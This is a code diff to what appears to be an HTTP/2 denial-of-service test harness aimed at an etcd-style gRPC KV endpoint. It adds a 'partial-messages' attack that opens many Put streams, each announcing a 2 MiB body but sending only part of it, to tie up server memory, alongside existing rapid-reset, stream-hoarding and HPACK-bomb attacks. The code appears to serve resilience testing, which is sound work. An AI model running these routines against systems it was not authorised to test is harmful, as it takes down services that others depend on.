@@ -241,6 +241,30 @@ def hoard_streams(endpoint: str, deadline: float, streams: int = 100_000) -> Out
     return outcome
 
 
+def partial_messages(endpoint: str, deadline: float) -> Outcome:
+    """Stream after stream of Put requests whose 2 MiB message stops after its first 1 MiB (within every window
+    the server opened), never finished: memory held for requests no handler can take yet."""
+    outcome = Outcome(connections=1)
+    conn = RawH2(endpoint)
+    chunk = b"p" * 16000
+    stream_id = 1
+    while time.monotonic() < deadline and not conn.closed:
+        data = struct.pack(">BI", 0, 2 * 1024 * 1024) + chunk
+        frames = [h2codec.encode_frame(h2codec.DATA, 0, stream_id, data)]
+        frames += [h2codec.encode_frame(h2codec.DATA, 0, stream_id, chunk)] * 64
+        request = conn.request_headers(stream_id, "/etcdserverpb.KV/Put") + b"".join(frames)
+        if not conn.send(request, min(BLOCKED_AFTER, max(deadline - time.monotonic(), 0.01))):
+            outcome.blocked = not conn.closed
+            break
+        stream_id += 2
+    while time.monotonic() < deadline and not conn.closed:
+        time.sleep(0.2)
+    outcome.cut_off += conn.closed
+    outcome.bytes_sent = conn.sent
+    conn.close()
+    return outcome
+
+
 def _literal_indexed(name: bytes, value: bytes) -> bytes:
     """An HPACK literal with incremental indexing and a new name (RFC 7541 6.2.1), no Huffman: lengths < 2**14."""
 
@@ -319,5 +343,6 @@ ATTACKS: dict[str, Callable[[str, float], Outcome]] = {
     "rapid-reset": rapid_reset,
     "hoard-100k-streams": hoard_streams,
     "hpack-bomb": hpack_bomb,
+    "partial-messages": partial_messages,
 }
 PREPARE: dict[str, Callable[[str], None]] = {"never-read-large-responses": prepare_large_value}
